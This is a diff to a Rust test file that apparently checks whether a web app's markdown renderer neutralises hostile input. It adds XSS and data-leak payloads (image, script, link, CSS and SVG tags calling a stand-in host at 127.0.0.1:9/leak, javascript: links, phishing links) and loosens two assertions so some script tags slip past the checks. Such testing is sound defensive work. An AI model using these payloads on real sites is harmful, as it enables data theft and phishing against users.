@@ -16,7 +16,8 @@ fn found(page: &Answer, css: &str, attribute: &str) -> Vec<String> {
     values.map(str::to_owned).collect()
 }
 
-const ATTACKS: &str = "![](http://127.0.0.1:9/leak?a=secret)\n\n\
+/// Each leads to a server that nobody asked for anything: `127.0.0.1:9`.
+pub(crate) const ATTACKS: &str = "![](http://127.0.0.1:9/leak?a=secret)\n\n\
     ![shown][pic] and ![pic]\n\n\
     [pic]: http://127.0.0.1:9/leak?b=secret\n\n\
     <img src=http://127.0.0.1:9/leak><IMG SRC='//127.0.0.1:9/leak' onerror=alert(1)>\n\n\
@@ -28,6 +29,14 @@ const ATTACKS: &str = "![](http://127.0.0.1:9/leak?a=secret)\n\n\
     <script>fetch('http://127.0.0.1:9/leak')</script><svg onload=alert(1)><image href=http://127.0.0.1:9/leak /></svg>\n\n\
     <iframe src=http://127.0.0.1:9/leak></iframe><object data=http://127.0.0.1:9/leak></object>\n\n\
     <form action=/desk/sign-out method=post><button>Sign out</button></form><meta http-equiv=refresh content=0>\n\n\
+    <link rel=prefetch href=http://127.0.0.1:9/leak><link rel=preload as=image href=http://127.0.0.1:9/leak>\
+    <link rel=preconnect href=http://127.0.0.1:9><link rel=icon href=http://127.0.0.1:9/leak>\n\n\
+    <meta http-equiv=refresh content=\"0;url=http://127.0.0.1:9/leak\"><base href=http://127.0.0.1:9/>\n\n\
+    <audio src=http://127.0.0.1:9/leak autoplay></audio><embed src=http://127.0.0.1:9/leak>\
+    <input type=image src=http://127.0.0.1:9/leak><track src=http://127.0.0.1:9/leak>\n\n\
+    <svg><style>* { fill: url(http://127.0.0.1:9/leak#a) }</style><use href=http://127.0.0.1:9/leak#a /></svg>\n\n\
+    <ul style=\"list-style:url('http://127.0.0.1:9/leak')\"><li style=\"content:url(http://127.0.0.1:9/leak)\">x</li></ul>\n\n\
+    <http://127.0.0.1:9/leak?auto> http://127.0.0.1:9/leak?bare <a ping=http://127.0.0.1:9/leak href=http://127.0.0.1:9/leak>ping</a>\n\n\
     [script](javascript:alert(1)) [data](data:text/html,x) <a href=\" java\nscript:alert(1)\">broken</a>\n\n\
     ![](data:image/svg+xml;base64,PHN2Zz4=) ![](/desk/assets/x.png) ![](//127.0.0.1:9/leak)\n\n\
     [your bank](https://evil.example/login) <https://plain.example/x> [https://bank.example](https://evil.example/)\n\n\
@@ -100,12 +109,12 @@ async fn what_the_user_says_is_no_markup() {
     let page = scene.begin(hostile).await;
     assert!(text_of(&page).contains(hostile), "{}", page.body);
     let html = Html::parse_document(&page.body);
-    for element in ["img", "script"] {
+    for element in ["img", "script:not([src^='/desk/assets/'])"] {
         let css = Selector::parse(element).unwrap();
         assert_eq!(html.select(&css).count(), 0, "{element}");
     }
     let list = scene.author.get("/desk/agent", 200).await;
-    assert!(!list.body.contains("<img") && !list.body.contains("<script"), "{}", list.body);
+    assert!(!list.body.contains("<img") && !list.body.contains("<script>"), "{}", list.body);
 }
 
 #[tokio::test(flavor = "multi_thread")]
